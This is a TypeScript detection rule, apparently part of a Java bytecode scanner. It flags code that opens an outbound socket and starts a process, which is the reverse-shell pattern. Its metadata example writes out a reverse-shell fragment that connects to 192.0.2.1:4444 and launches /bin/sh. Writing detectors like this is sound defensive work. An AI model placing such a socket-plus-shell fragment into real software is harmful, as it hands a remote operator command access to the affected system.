import type { JavaRule, MethodUnit } from '../engine.js';
import { knownString } from '../interpret.js';
import { CONTEXT_PHRASE, isEarly, isProcessStart, java, renderCall } from './helpers.js';

/** A TCP connection opened by the code itself (not a server socket). */
function isOutboundSocket(owner: string, name: string): boolean {
  return (
    ((owner === 'java/net/Socket' || owner === 'javax/net/ssl/SSLSocket') &&
      (name === '<init>' || name === 'connect')) ||
    (owner === 'java/nio/channels/SocketChannel' && (name === 'open' || name === 'connect')) ||
    (owner === 'javax/net/SocketFactory' && name === 'createSocket')
  );
}

/** Flags a shell or process wired to an outbound socket: the reverse-shell pattern. */
export const reverseShell: JavaRule = {
  meta: {
    ...java,
    id: 'JAVA-020',
    name: 'java-reverse-shell',
    category: 'backdoor',
    severity: 'high',
    confidence: 'medium',
    description:
      'The same method (or the code that runs at class load/start-up) opens an outbound socket and starts a process: a reverse shell that hands a remote operator a command line.',
    rationale:
      "Reverse shells connect out to the attacker (firewalls let outbound traffic through) and pipe a shell's stdin/stdout over the socket; a library has no reason to do both in one place.",
    falsePositives:
      'Remote-administration and debugging agents that start helpers and talk to a server; SSH/telnet client libraries spawning local tools.',
    example:
      'Socket s = new Socket("192.0.2.1", 4444); Process p = new ProcessBuilder("/bin/sh").redirectErrorStream(true).start();',
    references: [
      'https://attack.mitre.org/techniques/T1059/004/',
      'https://attack.mitre.org/techniques/T1571/',
    ],
  },
  create(ctx) {
    return {
      class(unit) {
        const early = unit.methods.filter((m) => isEarly(m.context));
        const groups: MethodUnit[][] = [
          early,
          ...unit.methods.filter((m) => !isEarly(m.context)).map((m) => [m]),
        ];
        for (const group of groups) {
          const calls = group.flatMap((m) => m.summary.calls.map((call) => ({ call, m })));
          const socket = calls.find((x) => isOutboundSocket(x.call.ref.owner, x.call.ref.name));
          const proc = calls.find((x) => isProcessStart(x.call));
          if (!socket || !proc) continue;
          const host = knownString(socket.call.args[0]);
          const port = socket.call.args[1]?.n;
          const wired = calls.some(
            (x) =>
              x.call.ref.owner === 'java/lang/Process' &&
              /^get(Input|Output|Error)Stream$/.test(x.call.ref.name),
          );
          ctx.report({
            at: socket.m,
            pc: socket.call.pc,
            context: group.some((m) => m.context === proc.m.context) ? proc.m.context : socket.m.context,
            code: `${renderCall(socket.call)} + ${renderCall(proc.call)}`,
            severity: wired ? 'high' : 'medium',
            message:
              `Connects out${host ? ` to ${host}${port !== undefined ? `:${port}` : ''}` : ''} and starts a process${wired ? ' whose streams it reads and writes' : ''} ${CONTEXT_PHRASE[proc.m.context]}: a reverse shell.`.replace(
                /\s+:/,
                ':',
              ),
            evidence: { host, port, wired },
            iocs: host ? [`${host}${port !== undefined ? `:${port}` : ''}`] : undefined,
          });
          return;
        }
      },
    };
  },
};
